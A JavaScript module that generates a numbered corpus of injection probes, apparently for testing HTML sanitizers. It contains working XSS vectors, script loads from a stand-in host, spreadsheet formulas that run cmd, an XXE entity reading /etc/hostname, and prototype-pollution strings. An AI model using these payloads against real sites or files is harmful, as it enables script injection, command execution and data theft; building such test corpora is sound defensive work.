// Words that would run where a page took them for more than words: each calls alert() with its own number, asks another
// host for something, leaves an element of the class "injected", or is counted by a template. By family; made, not kept.

const marked = 'class=injected';
const elsewhere = 'https://elsewhere.invalid/';

const families = {
    script: (run) => [
        `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<script\n>${run}</script\n>`, `<script/x>${run}</script/x>`, `<scr<script>ipt>${run}</scr</script>ipt>`,
        `<script ${marked}>${run}</script>`, `<script src=${elsewhere}x.js></script>`, `<script src=//elsewhere.invalid/x.js async>`, `<script type=module>${run}</script>`, `<script type="text/javascript" defer>${run}</script>`,
        `<script>/*</script><script>*/${run}</script>`, `</script><script>${run}</script>`, `</title><script>${run}</script>`, `</textarea><script>${run}</script>`, `</style><script>${run}</script>`,
        `</noscript><script>${run}</script>`, `</select><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<![CDATA[<script>${run}</script>]]>`,
        `<!--<script>-->${run}<!--</script>-->`, `<?xml version="1.0"?><script>${run}</script>`, `<script>window["al"+"ert"](1)</script>`, `<script>eval(atob("YWxlcnQoMSk="))</script>`, `<noscript><p title="</noscript><script>${run}</script>">`,
        `<template ${marked}><script>${run}</script></template>`, `<xmp><script>${run}</script></xmp>`, `<plaintext><script>${run}</script>`, `<script>import("${elsewhere}x.js")</script>`, `<script nonce="">${run}</script>`,
    ],
    handlers(run) {
        const tags = [
            ['img src=x', 'onerror'], ['img srcset=x', 'onerror'], ['body', 'onload'], ['body', 'onpageshow'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'],
            ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'], ['details open', 'ontoggle'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source', 'onerror'], ['iframe', 'onload'],
            ['object data=x', 'onerror'], ['embed src=x', 'onload'], ['marquee', 'onstart'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['p style="animation:x"', 'onanimationstart'],
            ['div', 'onmouseover'], ['div style="position:fixed;inset:0"', 'onpointermove'], ['div contenteditable autofocus', 'onfocus'], ['dialog open', 'onfocusin'],
        ];
        const shapes = [
            (tag, on) => `<${tag} ${on}=${run} ${marked}>`,
            (tag, on) => `<${tag} ${on}="${run}" ${marked}>`,
            (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()}='${run}' ${marked}>`,
            (tag, on) => `<${tag.replace(/ /g, '/')}/${on}=${run}//`,
        ];
        return tags.flatMap(([tag, on]) => shapes.map((shape) => shape(tag, on)));
    },
    svg: (run) => [
        `<svg onload=${run}>`, `<svg/onload=${run} ${marked}/>`, `<svg><script>${run}</script></svg>`, `<svg><script href="data:text/javascript,${run}"/></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
        `<svg><set onbegin=${run} attributeName=x to=1>`, `<svg><a xlink:href="javascript:${run}"><text y=20>甲</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${run}'/>#x">`,
        `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`, `<svg><image href=x onerror=${run}>`, `<svg><style><img src=x onerror=${run}></style>`, `<svg><title><script>${run}</script></title></svg>`,
        `<math href="javascript:${run}">甲</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`, `<math><annotation-xml encoding="text/html"><img src=x onerror=${run}></annotation-xml></math>`, `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>`,
    ],
    addresses(run) {
        const urls = [
            `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\tscript:${run}`, `java\nscript:${run}`, `javascript&colon;${run}`, `&#106;avascript:${run}`, `&#x6A;avascript:${run}`,
            `javascript://%0A${run}`, `vbscript:${run}`, `data:text/html,<script>${run}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `blob:${elsewhere}x`, `view-source:javascript:${run}`, `//elsewhere.invalid/`, `tel:1"onclick="${run}`,
        ];
        return [...urls, ...urls.slice(0, 8).map((url) => `<a href="${url}" ${marked}>点我</a>`), ...urls.slice(0, 6).map((url) => `<iframe src="${url}"></iframe>`), ...urls.slice(0, 4).map((url) => `<form action="${url}"><button ${marked}>交</button></form>`)];
    },
    // 7919 * 7 is 55433: where it stands, somebody counted.
    templates: (run) => [
        '{{7919*7}}', '{{ 7919 * 7 }}', '{{{7919*7}}}', '${7919*7}', '#{7919*7}', '<%= 7919*7 %>', '[[7919*7]]', '{%print(7919*7)%}', '@(7919*7)', '*{7919*7}', '$[7919*7]', '{7919*7}',
        `{{constructor.constructor('${run}')()}}`, `{{_c.constructor('${run}')()}}`, `{{$el.ownerDocument.defaultView.${run}}}`, `{{$root.constructor.constructor("${run}")()}}`, `<p v-html="'<img src=x onerror=${run}>'">`, `<p @click="${run}" ${marked}>`,
        `<p v-on:mouseover="${run}">`, `<a :href="'javascript:${run}'">甲</a>`, `<component :is="'script'" :src="'${elsewhere}'">`, `<p v-for="x in [${run}]">`, `\${constructor.constructor('${run}')()}`, `{phone} {ticket} {name}`,
    ],
    breakouts: (run) => [
        `" onmouseover="${run}`, `' onmouseover='${run}`, `\` onmouseover=${run}`, `" autofocus onfocus="${run}`, `' autofocus onfocus='${run}`, `"><img src=x onerror=${run}>`, `'><img src=x onerror=${run}>`, `"/><svg onload=${run}>`,
        `></option></select><img src=x onerror=${run}>`, `"} onclick={${run}} {"`, `" style="background:url(${elsewhere})`, `" href="javascript:${run}`, `" srcdoc="<script>${run}</script>`, `\\" onmouseover=\\"${run}`, `%22 onmouseover=%22${run}`, `&quot; onmouseover=&quot;${run}`,
        `";${run};//`, `';${run};//`, `\\';${run};//`, `</p></div></main><script>${run}</script>`,
    ],
    markdown: (run) => [
        `[点我](javascript:${run})`, `[点我](JAVASCRIPT:${run} "甲")`, `![图](x" onerror="${run})`, `![图](javascript:${run})`, `<javascript:${run}>`, `[甲]: javascript:${run}\n[甲]`, `\`\`\`\n<script>${run}</script>\n\`\`\``, `> <img src=x onerror=${run}>`, `| <svg onload=${run}> |\n|---|`, `**<script>${run}</script>**`,
        `[甲](data:text/html,<script>${run}</script>)`, `![图](${elsewhere}x.png)`, `# <img src=x onerror=${run}>`, `- [ ] <script>${run}</script>`,
    ],
    formulas: () => [
        '=1+1', "=cmd|' /C calc'!A0", `=HYPERLINK("${elsewhere}?"&A1,"点我")`, `=WEBSERVICE("${elsewhere}")`, `=IMPORTXML("${elsewhere}","//a")`, '+1+1', "+cmd|' /C calc'!A0", '-2+3', "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', ' =1+1', '="甲"&"乙"', '＝1+1', '＋1+1', '－2+3', '＠SUM(1)', '"=1+1', '"\n=1+1', ';=1+1', ',=1+1', '甲\n=1+1', "'=1+1", '%0A-2+3',
    ],
    letters: (run) => [
        `＜script＞${run}＜/script＞`, `‹script›${run}‹/script›`, `\u200b<script>${run}</script>`, `<\u200bscript>${run}</script>`, `<script\u00a0>${run}</script>`, `\u202e<script>${run}</script>`, `<\u0130mg src=x onerror=${run}>`, `<\u017fcript>${run}</\u017fcript>`,
        `\u2028<script>${run}</script>\u2029`, `\ufeff<img src=x onerror=${run}>`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `\\x3cscript\\x3e${run}`, `&lt;script&gt;${run}&lt;/script&gt;`, `&#60;script&#62;${run}&#60;/script&#62;`, `&#x3c;img src=x onerror=${run}&#x3e;`, `&amp;lt;script&amp;gt;${run}`,
        `%3Cscript%3E${run}%3C/script%3E`, `%253Cscript%253E${run}`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `<img src=x one\u0301rror=${run}>`, `\u{1d4f8}n\u{1d4f5}oad=${run}`, `<svg\u3000onload=${run}>`, `<img src=x onerror\u2003=${run}>`, `\u2066<b ${marked}>甲</b>\u2069`,
    ],
    others: (run) => [
        `<base href="${elsewhere}">`, `<meta http-equiv=refresh content="0;url=${elsewhere}">`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`, `<link rel=stylesheet href="${elsewhere}x.css">`, `<link rel=prefetch href="${elsewhere}">`, `<style>@import "${elsewhere}";</style>`, `<style>*{display:none}</style>`, `<b style="background:url(${elsewhere})" ${marked}>`,
        `<form id=app ${marked}><input name=body></form>`, `<img name=location src=x ${marked}>`, `<a id=fetch href=javascript:${run}>甲</a>`, `<iframe srcdoc="<script>parent.${run}</script>" ${marked}>`, `<object data="data:text/html,<script>${run}</script>">`, `<portal src="${elsewhere}">`, `<h1 ${marked}>系统维护</h1>`, `<input type=password placeholder=密码 ${marked}>`,
        `</script>","x":"<script>${run}</script>`, `{"__proto__":{"polluted":"yes"}}`, `__proto__[polluted]=yes`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/hostname">]><x>&y;</x>`, `\\0<script>${run}</script>`, `<img src="${elsewhere}x.png" ${marked}>`, `<video poster="${elsewhere}x.png">`, `<div popover id=x ${marked}>`,
    ],
};

// [{ family, text }], the number in each text its place in the list.
export function payloads() {
    const all = [];
    for (const [family, make] of Object.entries(families)) {
        const count = make('alert(0)').length;
        for (let i = 0; i < count; i++) all.push({ family, text: make(`alert(${all.length})`)[i] });
    }
    return all;
}
